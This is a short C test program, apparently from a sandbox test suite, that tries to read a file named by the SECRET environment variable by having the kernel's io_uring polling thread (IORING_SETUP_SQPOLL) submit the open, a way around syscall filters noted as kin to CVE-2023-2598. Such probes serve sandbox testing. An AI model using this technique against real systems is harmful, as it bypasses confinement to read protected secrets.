// tries: the same by the kernel's polling thread
// works: IORING_SETUP_SQPOLL has a thread of the kernel's submit
// see: io_uring_setup(2); CVE-2023-2598's kin
// goal: read
#include "../kit.h"

int main(void)
{
	struct ring ring;

	ring_make(&ring, IORING_SETUP_SQPOLL);
	return print_from(MUST(ring_do(&ring, (struct io_uring_sqe){
		.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (long)env("SECRET"), .open_flags = O_RDONLY })));
}
